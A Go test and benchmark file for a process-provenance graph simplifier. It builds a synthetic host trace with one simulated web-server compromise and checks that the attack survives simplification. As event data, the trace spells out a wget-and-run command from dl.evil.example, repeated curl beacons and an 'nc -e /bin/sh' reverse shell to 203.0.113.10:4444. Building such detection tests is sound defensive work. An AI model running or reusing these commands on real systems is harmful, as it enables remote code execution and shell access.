package provenance

import (
	"iter"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"sync"
	"testing"
	"time"

	"github.com/procwall/procwall/source"
)

// noisyHost generates a host trace of about n processes: forty services
// under systemd spawning short-lived jobs (cron jobs, php workers, shell
// sessions, health checks) with connections, DNS lookups and file writes,
// pids reused every 30000 processes (identity by pid and start time),
// and, in the middle, one download-and-run attack under the web server
// whose script loops (1500 rounds of `bash -c "id -u"`, a curl beacon and
// a sleep) before opening a reverse shell. It returns the events and the
// alert's ID (the attack's sh -c process, as pid@start).
func noisyHost(n int) (iter.Seq[source.Event], string) {
	const rounds = 1500
	attackAt := n / 2
	alertPID, alertStart := 0, uint64(0)
	// Precompute the alert identity the generator will use.
	alertPID = 2 + (attackAt % 30000)
	alertStart = uint64(attackAt+1) * 1000
	seq := func(yield func(source.Event) bool) {
		r := rand.New(rand.NewPCG(7, 7))
		t0 := time.Date(2026, 11, 24, 0, 0, 0, 0, time.UTC)
		k := 0 // process counter
		ev := func(e source.Event) bool {
			e.Time = t0.Add(time.Duration(k) * time.Millisecond)
			return yield(e)
		}
		type svc struct {
			pid   int
			start uint64
			exe   string
			argv  []string
		}
		services := []svc{}
		svcNames := []string{"sshd", "cron", "apache2", "dockerd", "rsyslogd", "postgres", "nginx", "node_exporter"}
		if !ev(source.Event{Kind: source.KindExec, PID: 1, Start: 1, Exe: "/usr/lib/systemd/systemd", Argv: []string{"/sbin/init"}}) {
			return
		}
		for i := 0; i < 40; i++ {
			name := svcNames[i%len(svcNames)]
			s := svc{pid: 40000 + i, start: uint64(2 + i), exe: "/usr/sbin/" + name, argv: []string{name, "-D"}}
			services = append(services, s)
			if !ev(source.Event{Kind: source.KindFork, PID: s.pid, Start: s.start, PPID: 1, PStart: 1}) ||
				!ev(source.Event{Kind: source.KindExec, PID: s.pid, Start: s.start, Exe: s.exe, Argv: s.argv}) {
				return
			}
		}
		apache := services[2]
		jobs := []struct {
			exe  string
			argv []string
		}{
			{"/usr/bin/dash", []string{"/bin/sh", "-c", "run-parts --report /etc/cron.hourly"}},
			{"/usr/bin/php-fpm8.2", []string{"php-fpm: pool www"}},
			{"/usr/bin/bash", []string{"-bash"}},
			{"/usr/bin/ls", []string{"ls", "-la", "/var/log"}},
			{"/usr/bin/grep", []string{"grep", "-r", "error", "/var/log/syslog"}},
			{"/usr/bin/curl", []string{"curl", "-s", "http://127.0.0.1:9100/metrics"}},
			{"/usr/bin/gzip", []string{"gzip", "/var/log/app.log.1"}},
			{"/usr/bin/python3", []string{"python3", "/opt/app/worker.py"}},
			{"/usr/bin/apt-get", []string{"apt-get", "update"}},
			{"/usr/bin/sleep", []string{"sleep", "60"}},
		}
		recent := make([]svc, 0, 64)
		newProc := func(parent svc, exe string, argv []string, cwd string) (svc, bool) {
			p := svc{pid: 2 + (k % 30000), start: uint64(k+1) * 1000, exe: exe, argv: argv}
			k++
			ok := ev(source.Event{Kind: source.KindFork, PID: p.pid, Start: p.start, PPID: parent.pid, PStart: parent.start}) &&
				ev(source.Event{Kind: source.KindExec, PID: p.pid, Start: p.start, Exe: exe, Argv: argv, Cwd: cwd})
			return p, ok
		}
		exit := func(p svc) bool {
			return ev(source.Event{Kind: source.KindExit, PID: p.pid, Start: p.start})
		}
		act := func(p svc, e source.Event) bool {
			e.PID, e.Start = p.pid, p.start
			return ev(e)
		}
		attack := func() bool {
			alert, ok := newProc(apache, "/usr/bin/dash", []string{"sh", "-c", "cd /tmp && wget http://dl.evil.example/a.sh.txt && mv a.sh.txt a.sh && chmod +x a.sh && ./a.sh"}, "/var/www")
			if !ok || alert.pid != alertPID || alert.start != alertStart {
				panic("noisyHost: alert identity drifted")
			}
			evil := netip.MustParseAddr("203.0.113.10")
			w, ok := newProc(alert, "/usr/bin/wget", []string{"wget", "http://dl.evil.example/a.sh.txt"}, "/tmp")
			ok = ok && act(w, source.Event{Kind: source.KindDNS, Query: "dl.evil.example", Answers: []netip.Addr{evil}}) &&
				act(w, source.Event{Kind: source.KindConnect, Dst: netip.AddrPortFrom(evil, 80), Proto: source.ProtoTCP}) &&
				act(w, source.Event{Kind: source.KindFile, Path: "/tmp/a.sh.txt", Op: "create"}) && exit(w)
			for _, c := range [][]string{{"mv", "a.sh.txt", "a.sh"}, {"chmod", "+x", "a.sh"}} {
				p, ok2 := newProc(alert, "/usr/bin/"+c[0], c, "/tmp")
				ok = ok && ok2 && exit(p)
			}
			script, ok2 := newProc(alert, "/usr/bin/bash", []string{"/bin/bash", "./a.sh"}, "/tmp")
			ok = ok && ok2
			for i := 0; ok && i < rounds; i++ {
				sh, ok2 := newProc(script, "/usr/bin/bash", []string{"bash", "-c", "id -u"}, "/tmp")
				id, ok3 := newProc(sh, "/usr/bin/id", []string{"id", "-u"}, "/tmp")
				ok = ok2 && ok3 && exit(id) && exit(sh)
				c, ok4 := newProc(script, "/usr/bin/curl", []string{"curl", "-s", "-o", "/dev/null", "http://dl.evil.example/beacon"}, "/tmp")
				ok = ok && ok4 && act(c, source.Event{Kind: source.KindConnect, Dst: netip.AddrPortFrom(evil, 80), Proto: source.ProtoTCP}) && exit(c)
				s, ok5 := newProc(script, "/usr/bin/sleep", []string{"sleep", "5"}, "/tmp")
				ok = ok && ok5 && exit(s)
			}
			nc, ok6 := newProc(script, "/usr/bin/nc.traditional", []string{"nc", "203.0.113.10", "4444", "-e", "/bin/sh"}, "/tmp")
			return ok && ok6 && act(nc, source.Event{Kind: source.KindConnect, Dst: netip.AddrPortFrom(evil, 4444), Proto: source.ProtoTCP})
		}
		for k < n {
			if k == attackAt {
				if !attack() {
					return
				}
				continue
			}
			parent := services[r.IntN(len(services))]
			if len(recent) > 0 && r.IntN(10) < 3 {
				parent = recent[r.IntN(len(recent))]
			}
			j := jobs[r.IntN(len(jobs))]
			p, ok := newProc(parent, j.exe, j.argv, "/")
			if !ok {
				return
			}
			switch r.IntN(10) {
			case 0:
				ok = act(p, source.Event{Kind: source.KindConnect, Proto: source.ProtoTCP,
					Dst: netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, byte(r.IntN(200))}), 443)})
			case 1:
				ok = act(p, source.Event{Kind: source.KindDNS, Query: "deb.debian.org", Answers: []netip.Addr{netip.MustParseAddr("192.0.2.80")}})
			case 2:
				ok = act(p, source.Event{Kind: source.KindFile, Path: "/var/log/app.log", Op: "write"})
			}
			if !ok {
				return
			}
			if len(recent) < cap(recent) {
				recent = append(recent, p)
			} else if r.IntN(4) == 0 {
				old := recent[r.IntN(len(recent))]
				recent[r.IntN(len(recent))] = p
				if !exit(old) {
					return
				}
			} else if !exit(p) {
				return
			}
		}
	}
	return seq, strconv.Itoa(alertPID) + "@" + strconv.FormatUint(alertStart, 10)
}

func buildNoisy(tb testing.TB, n int) (*Tree, string) {
	tb.Helper()
	seq, alert := noisyHost(n)
	tr := NewTree()
	if err := tr.AddAll(seq); err != nil {
		tb.Fatal(err)
	}
	return tr, alert
}

func noisyRules() []Rule {
	return append(DefaultRules(), Rule{Name: "rename", Image: "mv"}, Rule{Name: "identity", Image: "id"})
}

// TestNoisyHostSmall runs the benchmark's scenario at CI size: the
// simplified graph keeps the attack, preserves every path and is small.
func TestNoisyHostSmall(t *testing.T) {
	tr, alert := buildNoisy(t, 20000)
	opts := Options{Rules: noisyRules()}
	g, err := tr.Simplify(alert, opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Log(g)
	checkPreservation(t, tr, g, alert, opts)
	if len(g.Nodes) > 30 || tr.Len()/len(g.Nodes) < 20 {
		t.Errorf("%d graph nodes for %d processes: reduction below 20x", len(g.Nodes), tr.Len())
	}
	for _, want := range []struct {
		t    NodeType
		name string
	}{{TypeProcess, "wget"}, {TypeProcess, "curl"}, {TypeProcess, "nc.traditional"}, {TypeDomain, "dl.evil.example"},
		{TypeFile, "/tmp/a.sh"}, {TypeURL, "http://dl.evil.example/beacon"}} {
		mustFind(t, g, want.t, want.name)
	}
	curl := mustFind(t, g, TypeProcess, "curl")
	if curl.Count != 1500 || len(curl.Processes) != MaxProcessesPerNode {
		t.Errorf("curl node count %d (%d listed), want 1500 merged (%d listed)", curl.Count, len(curl.Processes), MaxProcessesPerNode)
	}
}

var (
	noisyOnce  sync.Once
	noisyTree  *Tree
	noisyAlert string
)

func noisyMillion(b *testing.B) (*Tree, string) {
	noisyOnce.Do(func() { noisyTree, noisyAlert = buildNoisy(b, 1_000_000) })
	return noisyTree, noisyAlert
}

// BenchmarkSimplifyNoisyHost: simplification of a 1M-process host trace
// around one alert (goal ≤ 200 ms, ≥ 20× fewer nodes), with the
// preservation check run on the result first. The baseline in the same
// run is the unsimplified graph of the whole tree (every process and
// resource, from the root, no rules, no merging of processes).
func BenchmarkSimplifyNoisyHost(b *testing.B) {
	tr, alert := noisyMillion(b)
	opts := Options{Rules: noisyRules()}
	b.Run("alert", func(b *testing.B) {
		g, err := tr.Simplify(alert, opts)
		if err != nil {
			b.Fatal(err)
		}
		checkPreservation(b, tr, g, alert, opts)
		b.ReportAllocs()
		for b.Loop() {
			g, err = tr.Simplify(alert, opts)
			if err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(float64(tr.Len()), "tree-procs")
		b.ReportMetric(float64(len(g.Nodes)), "graph-nodes")
		b.ReportMetric(float64(tr.Len())/float64(len(g.Nodes)), "reduction-x")
		related := g.Stats.Ancestors + 1 + g.Stats.Descendants
		b.ReportMetric(float64(related)/float64(len(g.Nodes)), "related-reduction-x")
	})
	b.Run("baseline-full-tree", func(b *testing.B) {
		var g *Graph
		var err error
		b.ReportAllocs()
		for b.Loop() {
			g, err = tr.Simplify("1@1", Options{Rules: []Rule{}, KeepDuplicates: true})
			if err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(float64(len(g.Nodes)), "graph-nodes")
	})
}

// BenchmarkBuildNoisyHost: building the full tree from the 1M-process
// trace (about 2.5M events); reports events per second.
func BenchmarkBuildNoisyHost(b *testing.B) {
	seq, _ := noisyHost(1_000_000)
	events := 0
	for range seq {
		events++
	}
	b.ReportAllocs()
	for b.Loop() {
		tr := NewTree()
		if err := tr.AddAll(seq); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(events)*float64(b.N)/b.Elapsed().Seconds(), "events/s")
}
